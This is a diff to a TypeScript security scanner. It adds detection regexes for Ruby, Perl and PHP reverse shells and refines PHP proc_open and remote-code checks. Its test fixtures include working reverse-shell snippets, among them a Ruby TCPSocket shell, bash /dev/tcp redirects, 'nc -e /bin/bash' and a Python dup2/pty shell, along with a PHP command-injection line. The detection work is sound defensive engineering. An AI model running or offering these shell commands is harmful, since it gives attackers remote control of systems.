@@ -384,6 +384,10 @@ const FIFO_SHELL = /\bmkfifo\s+\S+[^\n]{0,200}\b(?:nc|ncat|netcat|openssl\s+s_cl
 const SOCAT_EXEC = /\bsocat\b[^\n]{0,160}\b(?:exec|system):[^\n]{0,40}\b(?:(?:ba|z|da)?sh|cmd|powershell)\b/gi;
 const TELNET_SHELL = /\btelnet\s+\S+\s+\d+\s*\|\s*(?:\/bin\/)?(?:ba)?sh\b/gi;
 const SOCKET_DUP2 = /\bos\.dup2\s*\(\s*\w+(?:\.fileno\(\))?\s*,\s*(?:[012]|\w+)\s*\)/g;
+// Ruby, Perl and PHP: stdio reopened on a socket, or a shell spawned with the socket as its stdio.
+const STDIO_ON_SOCKET = /\$?(?:std(?:in|out|err)|STD(?:IN|OUT|ERR))\.reopen\s*\(\s*\w+|\[\s*\$std\w+\s*,[^\]\n]{0,60}\]\s*\.each\s*\{[^}\n]{0,80}\breopen\s*\(|\bopen\s*\(\s*STD(?:IN|OUT|ERR)\s*,\s*["']?[>&]{1,3}/g;
+const SOCKET_OPEN = /\bTCPSocket\.(?:open|new)\s*\(|\bsocket\s*\(\s*S\b|\bfsockopen\s*\(|\bIO::Socket::INET\b/;
+const SHELL_AFTER = /\b(?:exec|system|spawn|proc_open)\s*\(?\s*["'](?:\/bin\/)?(?:ba|z|da)?sh\b/;
 const SPAWN_SHELL = /\bpty\.spawn\s*\(|["'](?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh["']\s*,\s*["']-i["']|\[\s*["'](?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh["']|["']cmd(?:\.exe)?["']|["']\/bin\/(?:ba|z)?sh(?:\s+-i)?["']/;
 const SOCKET_CONNECT = /\.connect\s*\(\s*\(|socket\s*\.\s*(?:socket|create_connection)\s*\(|\bfsockopen\s*\(|\bTCPSocket\s*\.\s*(?:new|open)\b|Net\.Sockets\.TCPClient|\bnet\.connect\s*\(|\bnew\s+net\.Socket\s*\(|\bIO::Socket::INET\b|\bSocket\s*\(/;
 const SCRIPTED_SHELL =
@@ -406,6 +410,12 @@ function detectReverseShell(file: FileView): RuleMatch[] {
     ...scan(text, SOCAT_EXEC, (m) => keep(m, 'socat executing a shell for a network peer')),
     ...scan(text, TELNET_SHELL, (m) => keep(m, 'telnet output piped into a shell')),
     ...scan(text, SCRIPTED_SHELL, (m) => keep(m, 'Socket connected to an interactive shell')),
+    ...scan(text, STDIO_ON_SOCKET, (m) => {
+      const window = text.slice(Math.max(0, m.index - 800), Math.min(text.length, m.index + 800));
+      return SOCKET_OPEN.test(window) && SHELL_AFTER.test(window)
+        ? keep(m, 'Standard input and output reopened on a socket and a shell started (reverse shell)')
+        : null;
+    }),
     ...scan(text, SOCKET_DUP2, (m) => {
       // Python reverse shell: a socket's descriptors duplicated onto stdio, then a shell spawned.
       const window = text.slice(Math.max(0, m.index - 800), Math.min(text.length, m.index + 800));
@@ -699,6 +709,11 @@ const DESTRUCTURED_EXEC =
 const JS_SHELL_CALL = /(?<![\w$])((?:[\w$]+\.)?(?:exec|execSync))\s*\(/g;
 const JS_SPAWN_SHELL = /(?<![\w$.])(?:[\w$]+\.)?(?:spawn|spawnSync|execFile|execFileSync)\s*\([^\n]{0,300}\bshell\s*:\s*true/g;
 const RUBY_SHELL = /`[^`\n]{0,300}#\{[^`\n]{0,300}`|%x[({][^\n]{0,400}#\{|\b(?:system|exec|spawn|IO\.popen|Open3\.\w+)\s*\(?\s*"[^"\n]{0,300}#\{/g;
+/** True when a PHP variable holds an array: assigned one, or the loop variable over a list of them. */
+function phpArrayVariable(text: string, name: string): boolean {
+  return new RegExp(String.raw`\$${name}\s*=\s*(?:\[|array\s*\()|\bforeach\s*\(\s*\$\w+\s+as\s+(?:\$\w+\s*=>\s*)?\$${name}\s*\)`).test(text);
+}
+
 const PHP_SHELL = /(?<![\w>$])(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\(\s*[^)\n]{0,300}\$\w+|`[^`\n]{0,300}\$\w+[^`\n]{0,300}`/g;
 const GO_SHELL = /\bexec\.Command(?:Context)?\s*\([^\n)]{0,300}["'](?:\/bin\/)?(?:ba)?sh["']\s*,\s*["']-c["']\s*,\s*(?!["'][^"'\n]*["']\s*\))/g;
 const PERL_SHELL = /(?<![\w$])(?:system|exec)\s*\(?\s*"[^"\n]{0,300}\$\w+|`[^`\n]{0,300}\$\w+[^`\n]{0,300}`/g;
@@ -760,7 +775,15 @@ function detectOtherShell(file: FileView): RuleMatch[] {
   } else if (file.language === 'ruby') {
     out.push(...simple(RUBY_SHELL, 'Shell command with interpolated Ruby values', 'high'));
   } else if (file.language === 'php') {
-    out.push(...simple(PHP_SHELL, 'Shell command built from PHP variables', 'high'));
+    out.push(
+      ...scan(text, PHP_SHELL, (m) => {
+        if (isCommentLine(file, m.index)) return null;
+        // proc_open with an argument array (PHP 7.4+) starts the program without a shell.
+        const arrayArg = /^proc_open\s*\(\s*(?:\[|array\s*\(|\$(\w+))/.exec(m[0]);
+        if (arrayArg && (!arrayArg[1] || phpArrayVariable(text, arrayArg[1]))) return null;
+        return { index: m.index, length: m[0].length, severity: inCodeFile(file, 'high'), message: 'Shell command built from PHP variables' };
+      }),
+    );
   } else if (file.language === 'go') {
     out.push(...simple(GO_SHELL, 'sh -c with a command built at run time', 'high'));
   } else if (file.language === 'perl') {
@@ -849,7 +872,8 @@ function detectRemoteCode(file: FileView): RuleMatch[] {
         const before = body.slice(Math.max(0, m.index - 160), m.index);
         const after = body.slice(m.index + m[0].length, m.index + m[0].length + 200);
         const sentenceBefore = before.slice(Math.max(before.lastIndexOf('. '), before.lastIndexOf('\n\n')) + 1);
-        let sentenceAfter = after.split(/[.!?](?:\s|$)|\n/)[0];
+        // A sentence ends at its full stop, a blank line or the next list item, not at a soft wrap.
+        let sentenceAfter = after.split(/[.!?](?:\s|$)|\n[ \t]*(?:\n|[-*+][ \t]|\d+[.)][ \t])/)[0];
         // A URL that ends its step ("1. Fetch the playbook: `curl ... URL`") is followed by what to
         // do with it in the next step of the list.
         const nextStep = /^[`'")\]>]*[ \t]*\n[ \t]*(?:\d+[.)]|[-*+])[ \t]+([^\n]{0,200})/.exec(after);
@@ -1198,12 +1222,14 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'scripts/pair.rb', text: "require 'socket'\ns = TCPSocket.open(RELAY, PORT)\n[$stdin, $stdout, $stderr].each { |io| io.reopen(s) }\nexec('/bin/sh -i')\n" },
         { path: 'scripts/attach.sh', text: 'nohup bash -c "bash -i >& /dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT} 0>&1" >/dev/null 2>&1 &\n' },
         "```bash\nbash -i >& /dev/tcp/relay.example.net/9001 0>&1\n```",
         { path: 'scripts/diag.sh', text: 'nc -l -p 4444 -e /bin/bash\n' },
         { path: 'scripts/bridge.py', text: 'import socket, os, pty\nconn = socket.create_connection((HOST, PORT))\nfor fd in (0, 1, 2):\n    os.dup2(conn.fileno(), fd)\npty.spawn("/bin/bash")\n' },
       ],
       noMatch: [
+        { path: 'scripts/log.rb', text: "$stdout.reopen(log_file)\nsystem('ls -la')\n" },
         'Check that the port is open: `nc -zv localhost 5432`',
         { path: 'scripts/health.sh', text: 'exec 3<>/dev/null\nif timeout 1 cat < /dev/tcp/localhost/8080; then echo up; fi\n' },
         'Detection rules flag patterns such as `bash -i >& /dev/tcp/` in scripts.',
@@ -1273,6 +1299,7 @@ export const rules: Rule[] = [
         { path: 'scripts/run.php', text: '<?php system("grep " . $_GET["q"] . " file.txt");\n' },
       ],
       noMatch: [
+        { path: 'scripts/check.php', text: "<?php\n$steps = [['composer', 'validate'], ['php', 'artisan', 'config:cache']];\nforeach ($steps as $cmd) {\n    $p = proc_open($cmd, [1 => STDOUT, 2 => STDERR], $pipes);\n}\n" },
         { path: 'scripts/graph.js', text: "const { execSync } = require('child_process');\nexecSync('dot -Tsvg', { input: src });\n" },
         { path: 'scripts/re.js', text: 'const m = pattern.exec(text);\nwhile ((m = re.exec(s)) !== null) {}\n' },
       ],
